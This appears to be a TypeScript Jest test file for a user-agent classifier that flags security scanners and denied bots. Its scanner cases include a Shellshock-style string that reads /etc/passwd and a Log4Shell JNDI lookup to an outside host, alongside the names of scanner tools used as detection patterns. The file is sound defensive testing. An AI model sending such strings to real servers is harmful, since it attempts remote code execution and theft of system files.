import { describe, expect, it } from '@jest/globals';
import { BotsSpec } from './bots-spec.js';
import { UserAgents } from './user-agents.js';

const objectionTo = (userAgent: string, spec: Partial<BotsSpec> = {}) =>
  new UserAgents(BotsSpec.parse(spec)).objection(userAgent)?.finding;

const HONEST = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'curl/8.5.0',
  'python-requests/2.32.3',
  'Go-http-client/2.0',
  'okhttp/4.12.0',
  'Apache-HttpClient/4.5.14 (Java/17.0.9)',
  'PostmanRuntime/7.39.0',
  'node',
  'gatehouse-client/0.1.0',
  'kube-probe/1.30',
  'grpc-node-js/1.14.7',
  'Prometheus/2.53.0',
];

describe('user agents', () => {
  it.each(HONEST)('%s is spoken to', (userAgent) => {
    expect(objectionTo(userAgent)).toBeUndefined();
  });

  it.each([
    'sqlmap/1.8.2#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'gobuster/3.6',
    'Fuzz Faster U Fool v2.1.0',
    '() { :;}; /bin/bash -c "cat /etc/passwd"',
    '${jndi:ldap://203.0.113.7/a}',
  ])('%s is a scanner', (userAgent) => {
    expect(objectionTo(userAgent)).toBe('bot-scanner');
    expect(objectionTo(`${userAgent} ${'x'.repeat(4_000)}`)).toBe('bot-scanner');
    expect(objectionTo(userAgent, { knownScanners: false })).toBeUndefined();
  });

  it('are denied by any part of them, whatever its case and however it reads as a pattern', () => {
    const spec = { deny: ['BadBot', 'a.b(c)*'] };
    expect(objectionTo('Mozilla/5.0 badbot', spec)).toBe('bot-denied');
    expect(objectionTo('x A.B(C)* y', spec)).toBe('bot-denied');
    expect(objectionTo('axbcc', spec)).toBeUndefined();
  });

  it('that are allowed have nothing said against them', () => {
    const spec = { allow: ['nikto/2.5.0 our own'], deny: ['nikto'] };
    expect(objectionTo('Nikto/2.5.0 our own scan', spec)).toBeUndefined();
    expect(objectionTo('Nikto/2.5.0', spec)).toBe('bot-denied');
  });

  it('may be missing unless a route says otherwise', () => {
    for (const nothing of ['', '  ']) {
      expect(objectionTo(nothing)).toBeUndefined();
      expect(objectionTo(nothing, { emptyUserAgent: 'refuse' })).toBe('bot-unnamed');
    }
  });

  it('are judged alike the second time', () => {
    const userAgents = new UserAgents(BotsSpec.parse({}));
    for (let i = 0; i < 3; i++) {
      expect(userAgents.objection('sqlmap')?.finding).toBe('bot-scanner');
      expect(userAgents.objection('curl/8')).toBeUndefined();
    }
  });
});
